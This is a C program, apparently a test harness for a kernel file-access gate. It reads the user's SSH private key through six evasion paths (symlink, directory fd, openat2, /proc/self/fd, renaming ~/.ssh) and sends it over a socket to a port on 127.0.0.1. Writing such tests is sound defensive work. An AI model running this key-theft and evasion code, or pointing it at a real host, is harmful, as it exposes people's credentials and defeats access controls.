/* Reads $HOME/.ssh/id_rsa and sends it to 127.0.0.1:PORT at once, with no pause a gate in user
 * space could kill it in: the race only a kill in the kernel wins.
 *
 * Usage: steal_fast PORT HOW, where HOW is how the key is opened:
 *   plain     openat(AT_FDCWD, "$HOME/.ssh/id_rsa")
 *   symlink   through a symlink to it in /tmp
 *   dirfd     openat(fd of $HOME/.ssh, "id_rsa") from a thread that is not the leader
 *   openat2   openat2 with RESOLVE_NO_MAGICLINKS
 *   procfd    open("/proc/self/fd/N/id_rsa") with N a descriptor of $HOME/.ssh
 *   rename    renames $HOME/.ssh to $HOME/.s and reads .s/id_rsa
 * Prints "read" to stderr once it holds the key (never seen when killed at the open). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static int port;
static const char *how;

static int open_key(void)
{
    char path[4096], folder[4096];
    const char *home = getenv("HOME");
    snprintf(folder, sizeof(folder), "%s/.ssh", home);
    snprintf(path, sizeof(path), "%s/id_rsa", folder);
    if (strcmp(how, "symlink") == 0) {
        char link[64];
        snprintf(link, sizeof(link), "/tmp/steal-fast-%d", getpid());
        unlink(link);
        if (symlink(path, link) != 0)
            return -1;
        int fd = open(link, O_RDONLY);
        unlink(link);
        return fd;
    }
    if (strcmp(how, "dirfd") == 0) {
        int dir = open(folder, O_RDONLY | O_DIRECTORY);
        return openat(dir, "id_rsa", O_RDONLY);
    }
    if (strcmp(how, "openat2") == 0) {
        struct open_how request = {.flags = O_RDONLY, .resolve = RESOLVE_NO_MAGICLINKS};
        return (int)syscall(SYS_openat2, AT_FDCWD, path, &request, sizeof(request));
    }
    if (strcmp(how, "procfd") == 0) {
        int dir = open(folder, O_RDONLY | O_DIRECTORY);
        char through[64];
        snprintf(through, sizeof(through), "/proc/self/fd/%d/id_rsa", dir);
        return open(through, O_RDONLY);
    }
    if (strcmp(how, "rename") == 0) {
        char moved[4096];
        snprintf(moved, sizeof(moved), "%s/.s", home);
        if (rename(folder, moved) != 0)
            return -1;
        snprintf(path, sizeof(path), "%s/id_rsa", moved);
    }
    return open(path, O_RDONLY);
}

static void *steal(void *unused)
{
    (void)unused;
    char key[256];
    int fd = open_key();
    ssize_t length = fd >= 0 ? read(fd, key, sizeof(key)) : -1;
    if (length <= 0) {
        perror("open_key");
        exit(2);
    }
    int out = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(out, (struct sockaddr *)&address, sizeof(address)) != 0 || write(out, key, (size_t)length) != length) {
        perror("send");
        exit(2);
    }
    close(out);
    fprintf(stderr, "read\n");
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    port = atoi(argv[1]);
    how = argv[2];
    pthread_t thread;
    if (strcmp(how, "dirfd") == 0) {
        pthread_create(&thread, NULL, steal, NULL);
        pthread_join(thread, NULL);
    } else {
        steal(NULL);
    }
    return 0;
}
